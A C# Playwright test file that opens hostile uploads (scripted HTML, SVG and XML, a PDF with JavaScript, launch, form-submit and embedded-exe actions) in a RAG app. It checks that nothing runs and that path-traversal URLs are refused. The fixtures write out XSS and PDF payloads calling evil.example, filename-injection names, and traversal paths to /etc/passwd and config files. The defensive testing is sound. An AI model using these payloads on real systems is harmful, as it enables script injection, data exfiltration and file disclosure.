using System.Collections.Concurrent;
using System.Text.Json;
using Microsoft.Playwright;

namespace Rag.EndToEnd.Tests;

/// <summary>Files that want to run, load or lead somewhere, opened in a real browser as sources and by their addresses.</summary>
public sealed class HostileFilesTests(Browser browser) : IClassFixture<Browser>
{
    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Pdf_WithActionsFormsAndFiles_IsDrawnAndDoesNothing()
    {
        await using RealSite site = await RealSite.StartAsync();
        await File.WriteAllBytesAsync(Path.Combine(site.Folder, "hostile.pdf"), Pdf().Write(), Token);
        await site.UntilIdleAsync();
        IPage page = await browser.OpenAsync();
        ConcurrentBag<string> elsewhere = Outside.Watch(page, site.Address);
        await page.GotoAsync(site.Address);
        await page.Locator(".file.indexed > button").First.ClickAsync();
        await page.Locator(".textLayer span", new() { HasText = "The kiln of the form" }).WaitForAsync();
        Assert.Equal(0, await page.Locator(".pdf a, .pdf input, .pdf iframe, .pdf button:not(.pdf-bar button)").CountAsync());
        // Every place of the page holds a link, a field or a button of the document.
        foreach ((int x, int y) in ((int, int)[])[(100, 100), (200, 60), (300, 200)])
            await page.Locator(".pdf-page canvas").ClickAsync(new() { Position = new Position { X = x, Y = y }, Force = true });
        await page.GetByRole(AriaRole.Button, new() { Name = "Close the source" }).ClickAsync();
        Assert.Null(await page.EvaluateAsync<int?>("() => window.hacked ?? null"));
        Assert.StartsWith(site.Address, page.Url, StringComparison.Ordinal);
        Assert.Single(page.Context.Pages);
        Assert.Empty(elsewhere);
    }

    [Fact]
    public async Task Originals_OpenedByTheirAddress_RunNothing()
    {
        await using RealSite site = await RealSite.StartAsync();
        const string script = "<script>document.title='hacked';fetch('http://evil.example/')</script><img src='http://evil.example/a.png' onerror=\"document.title='hacked'\"><form action='http://evil.example/' id=f></form><script>f.submit()</script>";
        Dictionary<string, string> files = new()
        {
            ["page.html"] = "<base href='http://evil.example/'><h1>Kiln</h1><p>The kiln of the page.</p>" + script,
            ["page.xhtml"] = "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>The kiln of the strict page.</p><script>document.title='hacked'</script></body></html>",
            ["drawing.svg"] = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"document.title='hacked'\"><text>The kiln of the drawing.</text><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"http://evil.example/\"/></foreignObject><use href=\"http://evil.example/x.svg#a\"/></svg>",
            ["data.xml"] = "<?xml-stylesheet href=\"http://evil.example/s.xsl\" type=\"text/xsl\"?><x>The kiln of the data.</x>",
            ["code.js"] = "// The kiln of the code.\ndocument.title = 'hacked';\n",
            ["sniffed.txt"] = "<!doctype html><title>x</title>The kiln of the text." + script,
            ["javascript:alert(1).md"] = "# Kiln\n\nThe kiln of the name.\n",
            ["\" onmouseover=\"document.title='hacked'.md"] = "# Kiln\n\nThe kiln of the quotation mark.\n",
            ["\u202Efdp.exe.md"] = "# Kiln\n\nThe kiln that runs from the right.\n",
        };
        foreach ((string name, string text) in files) await File.WriteAllTextAsync(Path.Combine(site.Folder, name), text, Token);
        await site.UntilIdleAsync();
        IPage page = await browser.OpenAsync();
        ConcurrentBag<string> elsewhere = Outside.Watch(page, site.Address);
        JsonElement documents = JsonSerializer.Deserialize<JsonElement>(await site.Api.GetStringAsync("/api/documents?limit=100", Token)).GetProperty("documents");
        Assert.Equal(files.Count, documents.GetArrayLength());
        foreach (JsonElement document in documents.EnumerateArray())
        {
            string address = $"{site.Address}/api/documents/{document.GetProperty("id").GetString()}/content";
            // A download does not come to the page at all.
            try { await page.GotoAsync(address); }
            catch (PlaywrightException download) when (download.Message.Contains("Download", StringComparison.Ordinal) || download.Message.Contains("ERR_ABORTED", StringComparison.Ordinal)) { }
            Assert.NotEqual("hacked", await page.TitleAsync());
        }

        await page.GotoAsync(site.Address);
        foreach (ILocator file in await page.Locator(".file > button:first-child").AllAsync())
        {
            await file.HoverAsync();
            await file.ClickAsync();
            await page.Locator(".source-title h2").HoverAsync();
        }

        Assert.NotEqual("hacked", await page.TitleAsync());
        Assert.Empty(elsewhere);
    }

    [Theory]
    [InlineData("/api/documents/..%2f..%2fetc%2fpasswd/content")]
    [InlineData("/api/documents/%2fetc%2fpasswd/content")]
    [InlineData("/scripts/..%2f..%2fappsettings.json")]
    [InlineData("/scripts/%2e%2e/appsettings.json")]
    [InlineData("/css/..%5c..%5cappsettings.json")]
    [InlineData("/C:%5cWindows%5cwin.ini")]
    public async Task Address_LeadingOut_IsRefused(string path)
    {
        await using var site = new ScriptedSite();
        IPage page = await browser.OpenAsync();
        IResponse? answer = await page.GotoAsync(site.Address + path);
        Assert.InRange(answer!.Status, 400, 499);
        Assert.Equal("nosniff", await answer.HeaderValueAsync("x-content-type-options"));
    }

    private static SmallPdf Pdf()
    {
        var pdf = new SmallPdf();
        const string js = "/S /JavaScript /JS (this.window && \\(window.hacked = 1\\); app.launchURL\\('http://evil.example/js'\\);)";
        string file = pdf.AddStream("/Type /EmbeddedFile", "MZ hostile"), spec = pdf.Add($"<< /Type /Filespec /F (run.exe) /EF << /F {file} >> >>");
        string Annotation(string rest) => pdf.Add("<< /Type /Annot /F 4 " + rest + " >>");
        string[] annotations =
        [
            Annotation("/Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://evil.example/link) >>"),
            Annotation("/Subtype /Link /Rect [0 400 595 842] /A << /S /Launch /F (run.exe) >>"),
            Annotation("/Subtype /Link /Rect [0 0 300 842] /A << /S /GoToR /F (http://evil.example/other.pdf) /D [0 /Fit] /NewWindow true >>"),
            Annotation($"/Subtype /Link /Rect [0 0 595 300] /A << {js} >>"),
            Annotation($"/Subtype /Widget /FT /Tx /T (field) /V (x) /Rect [50 600 300 640] /AA << /F << {js} >> /K << {js} >> >>"),
            Annotation("/Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [50 500 300 540] /A << /S /SubmitForm /F (http://evil.example/form) >>"),
            Annotation($"/Subtype /FileAttachment /FS {spec} /Rect [300 500 330 530]"),
        ];
        pdf.Catalogue = $"/OpenAction << {js} >> /AA << /WC << {js} >> >> /AcroForm << /Fields [{annotations[4]} {annotations[5]}] /XFA ({"<script>window.hacked=2</script>"}) >> "
            + $"/Names << /JavaScript << /Names [(start) << {js} >>] >> /EmbeddedFiles << /Names [(run.exe) {spec}] >> >>";
        return pdf.AddPage(SmallPdf.Line("The kiln of the form reaches 1240 degrees after nine hours.", 60, 760), more: $"/Annots [{string.Join(' ', annotations)}] /AA << /O << {js} >> >>");
    }
}
